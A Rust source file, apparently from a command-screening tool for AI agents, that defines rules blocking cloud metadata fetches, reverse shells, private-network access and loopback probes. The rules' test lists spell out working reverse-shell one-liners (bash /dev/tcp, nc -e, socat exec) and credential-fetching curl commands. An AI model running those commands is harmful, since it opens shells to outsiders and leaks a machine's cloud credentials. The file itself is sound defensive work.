//! Rules about connections: credentials of the machine, shells for strangers, the network around.

use super::{Rule, RuleName};
use crate::sentinel::Verdict::{Hard, Soft};
use crate::sentinel::address::Reach;
use crate::sentinel::shell::{Call, is_shell, options_contain};

pub(super) const RULES: &[Rule] = &[
    Rule {
        name: RuleName::CurlMetadataServer,
        verdict: Hard,
        because: "this service hands out the credentials of the machine",
        instead: "Nothing in a task needs them.",
        caught: &[
            "curl http://169.254.169.254/latest/meta-data/",
            "wget -qO- http://metadata.google.internal/",
            "fetch: http://2852039166/latest",
        ],
        spared: &["grep -rn 169.254.169.254 src", "curl https://example.com/metadata"],
        finds: |act| act.reached.contains(&Reach::Metadata),
    },
    Rule {
        name: RuleName::ReverseShell,
        verdict: Hard,
        because: "it would give a shell to whoever is at the other end",
        instead: "Nothing in a task needs this.",
        caught: &[
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "nc -e /bin/sh 203.0.113.9 4444",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
            "socat exec:'bash -li',pty tcp:203.0.113.9:4444",
        ],
        spared: &["nc -z example.com 443", "bash -i -c 'echo hi'", "mkfifo /tmp/pipe"],
        finds: |act| {
            act.pipelines.iter().any(|stages| gives_shell(stages))
                || act.codes.iter().any(|code| code.gives_a_shell_away)
        },
    },
    Rule {
        name: RuleName::PrivateAddress,
        verdict: Hard,
        because: "it would reach into the network around this machine",
        instead: "Use public addresses, or test against something that the test itself starts.",
        caught: &[
            "curl http://10.0.0.5/",
            "wget 192.168.1.1",
            "ssh git@172.16.3.4",
            "python3 -c \"import urllib.request as u; u.urlopen('http://10.1.1.1/')\"",
            "fetch: http://[fd00::1]/",
        ],
        spared: &[
            "curl https://docs.rs/serde",
            "echo 10.0.0.5 >> hosts.txt",
            "python3 -c 'print(\"10.0.0.5\")'",
            "fetch: https://example.com/",
        ],
        finds: |act| act.reached.contains(&Reach::Private),
    },
    Rule {
        name: RuleName::LoopbackAddress,
        verdict: Soft,
        because: "services on this machine belong to its operator",
        instead: "Test through the project's own test suite, which starts and stops what it needs.",
        caught: &[
            "curl http://localhost:3000/health",
            "curl -s 127.1:8080",
            "nc -z localhost 5432",
            "fetch: http://0x7f000001/",
        ],
        spared: &[
            "python3 manage.py runserver 127.0.0.1:8000",
            "curl -H 'Host: localhost' https://example.com",
            "docker run -p 127.0.0.1:80:80 app",
        ],
        finds: |act| act.reached.contains(&Reach::Loopback),
    },
];

fn is_netcat(call: &Call) -> bool {
    matches!(call.program.as_str(), "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd")
}

fn gives_shell(stages: &[Call]) -> bool {
    let is_device = |path: &String| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
    let by_one = stages.iter().any(|call| {
        let uses_device = call.writes.iter().chain(&call.reads).any(is_device);
        let executes = is_netcat(call)
            && (options_contain(call, 'e', &["--exec", "--sh-exec", "--lua-exec"]) || call.has(&["-c"]));
        let by_socat = call.program == "socat"
            && call.arguments.iter().any(|word| {
                let word = word.to_ascii_lowercase();
                word.starts_with("exec:") || word.starts_with("system:")
            });
        let by_telnet = matches!(call.program.as_str(), "telnet" | "openssl")
            && stages.iter().any(|stage| is_shell(&stage.program));
        // A connection opened for the shell itself, to be read as commands later.
        (uses_device && (is_shell(&call.program) || call.program.is_empty() || call.program == "exec"))
            || executes
            || by_socat
            || by_telnet
    });
    let has_shell = stages.iter().any(|call| is_shell(&call.program));
    by_one || (has_shell && stages.iter().any(is_netcat))
}
